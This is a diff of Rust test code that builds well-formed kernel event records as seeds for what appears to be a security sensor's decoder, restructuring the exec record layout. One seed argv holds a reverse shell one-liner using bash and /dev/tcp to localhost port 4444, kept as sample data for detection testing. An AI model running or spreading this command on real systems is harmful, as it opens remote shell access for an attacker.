@@ -22,8 +22,8 @@ use std::path::{Path, PathBuf};
 use std::time::{Duration, Instant};
 
 use sensor_common::{
-    AF_INET, AF_INET6, EXEC_ARGS_OFFSET, EXEC_PATH_OFFSET, EventHeader, EventKind, ExecRecord,
-    ExitRecord, ForkRecord, NetRecord, OpenArgs, OpenRecord, PendingExec,
+    AF_INET, AF_INET6, EXEC_DATA_OFFSET, EventHeader, EventKind, ExecRecord, ExitRecord,
+    ForkRecord, NetRecord, OpenArgs, OpenRecord,
 };
 
 fn root() -> PathBuf {
@@ -138,19 +138,21 @@ fn record<T>(kind: EventKind) -> Vec<u8> {
 /// Well-formed kernel records of every kind, built from the `sensor-common` layouts.
 fn decoder_seeds() -> Vec<(String, Vec<u8>)> {
     let mut seeds = Vec::new();
-    let mut exec = record::<ExecRecord>(EventKind::Exec);
     let argv = b"bash\0-c\0exec bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\0";
-    let args = EXEC_ARGS_OFFSET;
-    put_u32(&mut exec, args + offset_of!(PendingExec, argc), 3);
+    let mut exec = record::<ExecRecord>(EventKind::Exec);
+    exec.truncate(EXEC_DATA_OFFSET);
+    put_u32(&mut exec, offset_of!(ExecRecord, argc), 3);
+    put_u32(&mut exec, offset_of!(ExecRecord, name_len), 9);
     put_u32(
         &mut exec,
-        args + offset_of!(PendingExec, argv_len),
+        offset_of!(ExecRecord, argv_len),
         argv.len() as u32,
     );
-    exec[args + offset_of!(PendingExec, argv)..][..argv.len()].copy_from_slice(argv);
-    put_u32(&mut exec, offset_of!(ExecRecord, path_len), 9);
-    exec[EXEC_PATH_OFFSET..][..9].copy_from_slice(b"/bin/bash");
     exec[offset_of!(ExecRecord, stdio)..][..3].copy_from_slice(&[1, 1, 1]);
+    exec.extend_from_slice(b"/bin/bash");
+    exec.extend_from_slice(argv);
+    let len = exec.len() as u32;
+    put_u32(&mut exec, offset_of!(EventHeader, size), len);
     seeds.push(("exec".to_string(), exec));
 
     let mut v4 = record::<NetRecord>(EventKind::Connect);
